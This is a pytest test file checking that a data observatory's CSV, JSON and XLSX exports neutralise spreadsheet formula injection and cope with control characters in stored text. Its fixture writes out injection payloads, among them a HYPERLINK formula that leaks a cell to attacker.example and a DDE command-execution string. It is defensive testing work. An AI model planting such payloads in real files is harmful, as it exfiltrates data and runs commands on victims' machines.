"""Exports from the API and the CLI: safe in a spreadsheet, robust to stored text, honest about
the sample.

A real SQLite store holds the illustrative sample (loaded by ``observatory demo load``) and one
hostile strategy whose titles are spreadsheet formulas; one description is given a vertical tab
and a NUL straight in the database, as text stored before the import cleaned it would be.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from api.app import create_app
from cli import main
from observatory.domain import LabelCreate, LabelStatus, PriorityCreate, StrategyCreate
from observatory.settings import load_settings
from observatory.store import open_store
from observatory.store.labels import add_labels
from observatory.store.strategies import save_strategy
from observatory.store.tables import PriorityRow
from tests.store_fixtures import load_demo_sample

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
HOSTILE = [FORMULA, "+1+1 cells", "-2 as a start", "@SUM(A1:A3)", "=cmd|' /C calc'!A0"]
SAMPLE = Path(__file__).resolve().parents[2] / "observatory" / "sample" / "priorities.csv"


@pytest.fixture(scope="module")
def exports(tmp_path_factory: pytest.TempPathFactory) -> dict:
    """The sample (via the CLI) plus the hostile strategy in a store, and the app serving it."""
    folder = tmp_path_factory.mktemp("export")
    env = load_demo_sample(folder)  # exports need no model: lexical embedder
    database_url = env["OBSERVATORY_DATABASE_URL"]
    settings = load_settings(
        database_url=database_url, data_dir=folder, embedding_backend="lexical"
    )
    store = open_store(settings)
    with store.transaction(write=True) as session:
        saved = save_strategy(
            session,
            StrategyCreate(
                title="=1+1 strategy", nuts_code="ES21", country="ES", region="País Vasco"
            ),
            [PriorityCreate(title=title, description="Food processing.") for title in HOSTILE],
        )
        add_labels(
            session,
            saved.priority_ids[0],
            [
                LabelCreate(
                    taxonomy="nace",
                    code="10",
                    status=LabelStatus.SUGGESTED,
                    probability=0.86,
                    rank=1,
                    model_version="test-1",
                )
            ],
        )
        # stored before import cleaned text (or written by another tool): exports must cope
        session.get(PriorityRow, saved.priority_ids[1]).description = "line\x0bbreak and\x00 NUL"
    store.close()
    with TestClient(create_app(settings)) as client:
        yield {"client": client, "env": env, "hostile_ids": list(saved.priority_ids)}


def _csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_csv_cells_that_would_run_as_formulas_are_neutralised(exports) -> None:
    response = exports["client"].get("/api/export", params={"format": "csv", "country": "ES"})
    assert response.status_code == 200
    rows = {int(r["priority_id"]): r for r in _csv_rows(response.text)}
    hostile = [rows[i] for i in exports["hostile_ids"]]
    assert [r["title"] for r in hostile] == ["'" + title for title in HOSTILE]
    assert all(r["strategy_title"] == "'=1+1 strategy" for r in hostile)
    for row in rows.values():  # no cell of the file starts like a formula
        assert not any(str(v).startswith(("=", "+", "-", "@", "\t")) for v in row.values())


def test_xlsx_writes_strings_as_strings(exports) -> None:
    response = exports["client"].get("/api/export", params={"format": "xlsx", "country": "ES"})
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "HYPERLINK" in sheet_xml  # the text, never a formula
    sheet = load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in next(sheet.iter_rows(max_row=1))]
    title_at = header.index("title")
    cells = {
        row[title_at].value: row[title_at]
        for row in sheet.iter_rows(min_row=2)
        if row[title_at].value in HOSTILE
    }
    assert set(cells) == set(HOSTILE)  # exactly the stored text, not an apostrophe in it
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in cells.values())


@pytest.mark.parametrize("fmt", ["csv", "json", "xlsx"])
def test_control_characters_in_stored_text_never_break_an_export(exports, fmt) -> None:
    response = exports["client"].get("/api/export", params={"format": fmt, "country": "ES"})
    assert response.status_code == 200, response.text[:300]
    if fmt == "json":
        by_id = {r["priority_id"]: r for r in response.json()}
        assert by_id[exports["hostile_ids"][1]]["description"] == "line\nbreak and NUL"


def test_code_title_and_probability_are_separate_columns(exports) -> None:
    client = exports["client"]
    rows = _csv_rows(client.get("/api/export", params={"country": "ES"}).text)
    labelled = next(r for r in rows if int(r["priority_id"]) == exports["hostile_ids"][0])
    assert labelled["nace_code"] == "10"
    assert labelled["nace_title"] == "Manufacture of food products"
    assert float(labelled["nace_probability"]) == pytest.approx(0.86)
    assert labelled["nace_status"] == "suggested" and labelled["nace_source"] == "test-1"
    assert "(" not in labelled["nace_code"]
    records = client.get("/api/export", params={"country": "ES", "format": "json"}).json()
    record = next(r for r in records if r["priority_id"] == exports["hostile_ids"][0])
    assert record["nace_probability"] == pytest.approx(0.86)
    assert record["labels"][0] == {
        "taxonomy": "nace",
        "code": "10",
        "title": "Manufacture of food products",
        "probability": 0.86,
        "status": "suggested",
        "source": "test-1",
    }


def test_the_sample_keeps_its_source_and_every_row_says_it_is_illustrative(exports) -> None:
    client = exports["client"]
    with SAMPLE.open(encoding="utf-8") as handle:
        sample_rows = list(csv.DictReader(handle))
    rows = _csv_rows(client.get("/api/export").text)
    hostile = set(exports["hostile_ids"])
    sample = [r for r in rows if int(r["priority_id"]) not in hostile]
    assert len(sample) == len(sample_rows)
    assert all(r["illustrative"] == "True" for r in sample)
    assert {r["source"] for r in sample} == {r["source"] for r in sample_rows}
    assert all(r["illustrative"] == "False" for r in rows if int(r["priority_id"]) in hostile)
    listed = client.get("/api/priorities", params={"limit": 5, "country": "AT"}).json()["data"]
    assert listed and all(p["illustrative"] and p["strategy"]["illustrative"] for p in listed)
    assert listed[0]["source"] == sample_rows[0]["source"]
    detail = client.get(f"/api/priorities/{listed[0]['id']}").json()
    assert detail["source"] == sample_rows[0]["source"] and detail["illustrative"] is True


@pytest.mark.parametrize("fmt", ["csv", "json", "xlsx"])
def test_the_cli_exports_every_format_to_a_file_and_stdout(
    exports, fmt, tmp_path, monkeypatch, capsysbinary
) -> None:
    for key, value in exports["env"].items():
        monkeypatch.setenv(key, value)
    target = tmp_path / f"out.{fmt}"
    with pytest.raises(SystemExit) as done:
        main(["export", "--format", fmt, "--country", "ES", "-o", str(target)])
    assert done.value.code in (0, None)
    capsysbinary.readouterr()
    with pytest.raises(SystemExit):
        main(["export", "--format", fmt, "--country", "ES", "-o", "-"])
    streamed = capsysbinary.readouterr().out
    if fmt != "xlsx":  # an XLSX carries its creation time: compare its cells below
        assert streamed == target.read_bytes()
    if fmt == "csv":
        titles = {r["title"] for r in _csv_rows(streamed.decode())}
        assert "'" + FORMULA in titles
    elif fmt == "json":
        assert {r["country"] for r in json.loads(streamed)} == {"ES"}
    else:
        cells = list(load_workbook(io.BytesIO(streamed)).active.values)
        assert cells == list(load_workbook(target).active.values)
        assert len(cells) > len(HOSTILE) and FORMULA in {row[1] for row in cells}
